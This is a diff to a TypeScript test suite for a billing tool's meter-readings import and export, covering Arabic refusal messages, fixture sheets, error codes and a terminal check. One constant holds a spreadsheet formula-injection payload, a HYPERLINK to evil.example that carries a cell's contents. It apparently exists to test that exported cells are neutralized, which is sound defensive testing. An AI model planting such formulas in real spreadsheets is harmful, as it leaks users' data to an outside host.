@@ -1,3 +1,4 @@
+import { spawn } from 'node:child_process';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -7,6 +8,9 @@ import type { ReadingExportRow } from '@kahraba/billing-domain';
 import { createTestDatabase, SqlDatabase } from '@kahraba/persistence';
 import { readReadingSheet, type SheetFormat, writeReadingSheet } from './reading-sheet-file';
 import { billing } from './testing/run-billing';
+
+const FIXTURES = join(__dirname, '../../../libs/billing-domain/test-fixtures/sheets');
+const BILLING = join(__dirname, '..', 'dist', 'main.js');
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
 
@@ -55,7 +59,7 @@ describe('billing readings export and import', () => {
       );
       expect(exported).toMatchObject({ code: 0, stdout: `exported 2 customers of mahmoud-kwh to ${file}\n` });
 
-      const sheet = await readReadingSheet(await readFile(file), format);
+      const sheet = readReadingSheet(await readFile(file), file).readings;
       expect(sheet.map((row) => [row.customerNumber, row.name, row.newCurrentKwh])).toEqual([
         ['1000', 'أحمد "أبو علي"، الحاج', ''],
         ['1001', 'سامي', ''],
@@ -122,7 +126,7 @@ describe('billing readings export and import', () => {
       for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
 
       // Filled and imported back, each row still finds its customer (by id).
-      const sheet = await readReadingSheet(await readFile(file), format);
+      const sheet = readReadingSheet(await readFile(file), file).readings;
       const filled: ReadingExportRow[] = sheet.map((row) => ({
         id: row.id!,
         customerNumber: Number(row.customerNumber),
@@ -144,28 +148,138 @@ describe('billing readings export and import', () => {
     },
   );
 
-  it('prints the skipped rows with their reasons for people', async () => {
+  it('prints the refused rows first, each with its sheet row number and customer, in Arabic', async () => {
     const file = join(folder, 'bad.csv');
     await writeFile(file, '\uFEFFcustomerNumber,newCurrentKwh\r\n#1000,1\r\n#9999,5\r\n');
     const run = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', file], env);
     expect(run.code).toBe(0);
-    expect(run.stdout).toContain('لم يتم تحديث أي قراءة');
-    expect(run.stdout).toMatch(/skipped line 1: القراءة الجديدة \(1\) أقل من القراءة التي تسبقها/);
-    expect(run.stdout).toContain('skipped line 2: لا يوجد عميل بالرقم #9999');
+    expect(run.stdout.split('\n').slice(0, 3)).toEqual([
+      'لم يتم تحديث أي قراءة',
+      expect.stringMatching(
+        /^مرفوض: الصف 2 · #1000 أحمد "أبو علي"، الحاج العلبة 3: القراءة الجديدة \(1\) أقل من القراءة التي تسبقها \(\d+\)$/,
+      ),
+      'مرفوض: الصف 3 · #9999: لا يوجد عميل بالرقم #9999',
+    ]);
   });
 
-  it('exits 2 for a file it cannot read by its name, and 1 in Arabic for a group that is not metered', async () => {
+  // issue 19 done-when: the same files as the web's test (libs/billing-domain/test-fixtures/sheets),
+  // the same row numbers in the refusals: row 4 (customer 1001, below its previous reading) and row
+  // 5 (an unknown customer); the blank row 3 is no row at all.
+  it.each([
+    'readings.xlsx',
+    'readings.ods',
+    'readings-windows-1256.csv',
+    'readings-utf8-bom.csv',
+    'readings.tsv',
+  ])('imports %s with the refusals on the rows the spreadsheet shows', async (name) => {
+    // The readings the fixture was written against (the tests above moved them on).
+    await db.query(
+      `UPDATE kwh_customers SET previous_kwh = CASE customer_number WHEN 1000 THEN 100 ELSE 200 END,
+                current_kwh = CASE customer_number WHEN 1000 THEN 150 ELSE 0 END
+          WHERE system = 'mahmoud-kwh'`,
+    );
+    const run = await billing(
+      [
+        'readings',
+        'import',
+        '--system',
+        'mahmoud-kwh',
+        '--file',
+        join(FIXTURES, name),
+        '--dry-run',
+        '--json',
+      ],
+      env,
+    );
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    const summary = JSON.parse(run.stdout) as { skipped: unknown[]; rows: { line: number }[] };
+    expect(summary.rows.map((row) => row.line)).toEqual([2]);
+    expect(summary.skipped).toEqual([
+      {
+        line: 4,
+        reason: 'القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)',
+        customerNumber: 1001,
+        name: 'سامي',
+        box: null,
+      },
+      { line: 5, reason: 'لا يوجد عميل بالرقم #1005', customerNumber: 1005, name: 'زبون مجهول', box: '9' },
+    ]);
+  });
+
+  it('writes the refused rows, as written and with their reasons, to a CSV to fix (--refused-out)', async () => {
+    const out = join(folder, 'to-fix.csv');
+    const run = await billing(
+      [
+        'readings',
+        'import',
+        '--system',
+        'mahmoud-kwh',
+        '--file',
+        join(FIXTURES, 'readings.ods'),
+        '--dry-run',
+        '--refused-out',
+        out,
+      ],
+      env,
+    );
+    expect(run).toMatchObject({ code: 0, stderr: '' });
+    const { data } = parseDelimited<string[]>((await readFile(out, 'utf8')).replace(/^\uFEFF/, ''), {
+      skipEmptyLines: true,
+    });
+    expect(data).toEqual([
+      ['customerNumber', 'name', 'box', 'previousKwh', 'currentKwh', 'newCurrentKwh', 'السبب'],
+      ['1001', 'سامي', '', '200', '0', '150', 'القراءة الجديدة (150) أقل من القراءة التي تسبقها (200)'],
+      ['1005', 'زبون مجهول', '9', '0', '0', '10', 'لا يوجد عميل بالرقم #1005'],
+    ]);
+  });
+
+  it('refuses a sheet whose header lacks the reading column, and an empty file, in Arabic', async () => {
+    const foreign = join(folder, 'foreign.csv');
+    await writeFile(foreign, 'foo,bar\n1,2\n');
+    const run = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', foreign], env);
+    expect(run).toMatchObject({
+      code: 1,
+      stdout: '',
+      stderr: 'error: سطر العناوين لا يحتوي على عمود القراءة الجديدة: newCurrentKwh أو «القراءة الجديدة»\n',
+    });
+    const empty = join(folder, 'empty.tsv');
+    await writeFile(empty, '');
+    const none = await billing(['readings', 'import', '--system', 'mahmoud-kwh', '--file', empty], env);
+    expect(none).toMatchObject({ code: 1, stderr: 'error: الملف أو النص الملصق فارغ\n' });
+  });
+
+  it('answers a missing file, an unknown format and a group that is not metered with one Arabic line', async () => {
+    const missing = await billing(
+      ['readings', 'import', '--system', 'mahmoud-kwh', '--file', join(folder, 'nowhere.xlsx')],
+      env,
+    );
+    expect(missing).toMatchObject({
+      code: 2,
+      stderr: `error: الملف «${join(folder, 'nowhere.xlsx')}» غير موجود\n`,
+    });
     const wrongFile = await billing(
       ['readings', 'import', '--system', 'mahmoud-kwh', '--file', 'readings.pdf'],
       env,
     );
-    expect(wrongFile.code).toBe(2);
-    expect(wrongFile.stderr).toMatch(/\.tsv, \.csv or \.xlsx/);
+    expect(wrongFile).toMatchObject({
+      code: 2,
+      stderr: 'error: لا يمكن قراءة الملف «readings.pdf»: الصيغ المقبولة xlsx وods وcsv وtsv\n',
+    });
+    const broken = join(folder, 'broken.ods');
+    await writeFile(broken, 'not a workbook');
+    const unreadable = await billing(
+      ['readings', 'import', '--system', 'mahmoud-kwh', '--file', broken],
+      env,
+    );
+    expect(unreadable).toMatchObject({ code: 1, stderr: 'error: الملف ليس ملف ods صالحاً أو أنه تالف\n' });
     const flat = await billing(['readings', 'export', '--system', 'ampere'], env);
-    expect(flat.code).toBe(1);
-    expect(flat.stderr).toBe('error: نظام الفوترة غير معروف\n');
+    expect(flat.code).toBe(2);
+    expect(flat.stderr).toMatch(
+      /^error: «ampere» \(.+\) ليس مجموعة عدادات: القراءات لمجموعات الكيلوواط فقط\n$/,
+    );
     const unknown = await billing(
-      ['readings', 'import', '--system', 'nowhere', '--file', join(folder, 'mahmoud.csv'), '--json'],
+      ['readings', 'import', '--system', 'nowhere', '--file', join(FIXTURES, 'readings.tsv'), '--json'],
       env,
     );
     expect(unknown.code).toBe(1);
@@ -173,6 +287,33 @@ describe('billing readings export and import', () => {
       error: 'نظام الفوترة غير معروف',
       code: 'UNKNOWN_BILLING_SYSTEM',
     });
+    const nowhere = join(folder, 'no-such-folder', 'out.csv');
+    const badOut = await billing(['readings', 'export', '--system', 'mahmoud-kwh', '--out', nowhere], env);
+    expect(badOut).toMatchObject({ code: 1, stderr: `error: الملف «${nowhere}» غير موجود\n` });
+    const noSystem = await billing(['readings', 'export'], env);
+    expect(noSystem).toMatchObject({ code: 2, stderr: 'error: الخيار --system <system> مطلوب\n' });
+  });
+
+  it('wants --out for an xlsx export to a terminal', async () => {
+    // `script` gives the command a terminal for its standard output.
+    const run = await new Promise<{ code: number; output: string }>((resolve) => {
+      const child = spawn(
+        'script',
+        [
+          '-qec',
+          `${process.execPath} ${BILLING} readings export --system mahmoud-kwh --format xlsx`,
+          '/dev/null',
+        ],
+        { env: { ...process.env, ...env } },
+      );
+      let output = '';
+      child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
+      child.on('close', (code) => resolve({ code: code ?? -1, output }));
+    });
+    expect(run.code).toBe(2);
+    expect(run.output.trim()).toBe(
+      'error: ملف xlsx لا يُكتب على الشاشة: حدّد الملف بالخيار --out، مثل --out readings.xlsx',
+    );
   });
 
   it('writes the TSV sheet to standard output without --out', async () => {
